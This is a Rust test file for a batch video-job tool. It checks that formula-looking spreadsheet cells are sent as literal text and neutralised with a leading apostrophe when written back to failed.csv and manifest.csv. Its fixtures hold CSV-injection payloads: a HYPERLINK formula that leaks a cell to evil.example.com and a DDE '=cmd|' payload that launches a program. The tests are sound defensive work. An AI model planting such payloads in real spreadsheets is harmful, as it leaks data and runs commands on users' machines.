//! Formula-looking cells (`=HYPERLINK(...)`, `-20%`, `+1`, `@brand`, DDE's `=cmd|...`) are
//! text: sent exactly as written, never evaluated, written back to `failed.csv` and
//! `manifest.csv` behind a `'` so no spreadsheet runs them, and read back without it so a
//! fixed `failed.csv` plans the very bodies it came from.

use std::ffi::OsStr;
use std::process::{Command, Stdio};

use creatify_batch::config::Settings;
use creatify_batch::plan::{plan_file, Plan};
use creatify_batch::sandbox::Faults;

use super::corpus_dir;
use crate::support::{code, text, Harness, BIN};

fn formulas_sheet() -> std::path::PathBuf {
    corpus_dir().join("accepted").join("formulas.csv")
}

/// (key, name, script) as written in the sheet, in order.
const WRITTEN: &[(&str, &str, &str)] = &[
    (
        "hyperlink",
        "Spring sale",
        r#"=HYPERLINK("http://evil.example.com/?leak="&A1,"Click me")"#,
    ),
    ("minus", "-20% off today", "-20% off everything, today only"),
    ("plus", "+1 for you", "+1 if you love it"),
    ("at", "@brand", "@everyone look at this"),
    ("cmd", "Sum", "=cmd|' /C calc'!A0"),
    ("plain", "Plain", "Nothing to see here"),
];

fn scripts(plan: &Plan) -> Vec<(String, String, String)> {
    plan.videos
        .iter()
        .map(|v| {
            let voice = v.body.video_inputs[0].voice.as_ref().unwrap();
            (
                v.key.clone(),
                v.body.name.clone().unwrap_or_default(),
                voice.input_text.clone().unwrap_or_default(),
            )
        })
        .collect()
}

fn written() -> Vec<(String, String, String)> {
    WRITTEN
        .iter()
        .map(|(k, n, s)| (k.to_string(), n.to_string(), s.to_string()))
        .collect()
}

#[test]
fn formula_cells_are_sent_as_their_literal_text() {
    let plan = plan_file(&formulas_sheet(), &Settings::default()).unwrap();
    assert_eq!(scripts(&plan), written());
    // Warned about, in the table `plan` prints, for the cells that start with `=`.
    let warned: Vec<&str> = plan
        .videos
        .iter()
        .filter(|v| {
            v.warnings
                .iter()
                .any(|w| w.message.contains("never evaluated"))
        })
        .map(|v| v.key.as_str())
        .collect();
    assert_eq!(warned, ["hyperlink", "cmd"]);

    // `plan --json` prints exactly what `run` would POST: the same literal text.
    let dir = tempfile::tempdir().unwrap();
    let out = Command::new(BIN)
        .current_dir(dir.path())
        .args([
            OsStr::new("plan"),
            OsStr::new("--json"),
            formulas_sheet().as_os_str(),
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let bodies: Vec<serde_json::Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let sent: Vec<&str> = bodies
        .iter()
        .map(|b| {
            b["video_inputs"][0]["voice"]["input_text"]
                .as_str()
                .unwrap()
        })
        .collect();
    assert_eq!(sent, WRITTEN.iter().map(|w| w.2).collect::<Vec<_>>());
    for (b, w) in bodies.iter().zip(WRITTEN) {
        // The job name carries the run's reference before the user's name.
        let name = b["name"].as_str().unwrap();
        assert_eq!(
            creatify_batch::engine::reference::user_part(name),
            w.1,
            "{name}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn failed_csv_defuses_formulas_and_plans_the_same_bodies_again() {
    let mut faults = Faults::default();
    faults.jobs.fail = 1.0;
    let h = Harness::start(faults, |_| {}).await;
    let csv = std::fs::read_to_string(formulas_sheet()).unwrap();
    let sheet = h.sheet("formulas.csv", &csv);
    let out = h.run(&sheet, &[]).await;
    assert_eq!(code(&out), 1, "{}", text(&out));
    assert_eq!(h.stats().jobs_created, WRITTEN.len() as u64);

    let batch = h.batch_dir("formulas");
    let failed = std::fs::read_to_string(batch.join("failed.csv")).unwrap();
    for cell in [
        r#"'=HYPERLINK(""http://evil.example.com/?leak=""&A1,""Click me"")"#,
        "'-20% off today",
        "'+1 if you love it",
        "'@brand",
        "'=cmd|' /C calc'!A0",
    ] {
        assert!(failed.contains(cell), "{cell:?} not in:\n{failed}");
    }
    // No cell of failed.csv or manifest.csv starts with what a spreadsheet would run.
    for file in ["failed.csv", "manifest.csv"] {
        let bytes = std::fs::read(batch.join(file)).unwrap();
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..]);
        for record in r.records() {
            for cell in record.unwrap().iter() {
                assert!(!cell.starts_with(['=', '+', '-', '@']), "{file}: {cell:?}");
            }
        }
    }

    // Fed back, failed.csv plans the same rows: same keys, same bodies, same scripts.
    let first = plan_file(&sheet, &Settings::default()).unwrap();
    let again = plan_file(&batch.join("failed.csv"), &Settings::default()).unwrap();
    assert_eq!(scripts(&again), written());
    let bodies = |p: &Plan| {
        p.videos
            .iter()
            .map(|v| (v.key.clone(), v.body.clone()))
            .collect::<Vec<_>>()
    };
    assert_eq!(bodies(&again), bodies(&first));
}
